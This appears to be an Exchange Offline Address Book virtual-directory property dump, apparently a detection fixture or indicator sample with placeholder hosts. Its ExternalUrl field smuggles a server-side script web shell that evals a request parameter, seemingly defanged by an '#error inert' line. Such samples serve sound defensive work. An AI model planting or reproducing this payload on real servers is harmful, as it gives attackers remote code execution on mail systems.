Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
MetabasePath                    : IIS://mail.example.invalid/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
Server                          : MAIL
InternalUrl                     : https://mail.example.invalid/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">
#error inert
function Page_Load(){eval(Request["k0"],"unsafe");}</script>
AdminDisplayVersion             : Version 15.1 (Build 0.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,DC=example,DC=invalid
WhenChanged                     : 3/1/2021 1:00:00 AM
OriginatingServer               : dc.example.invalid
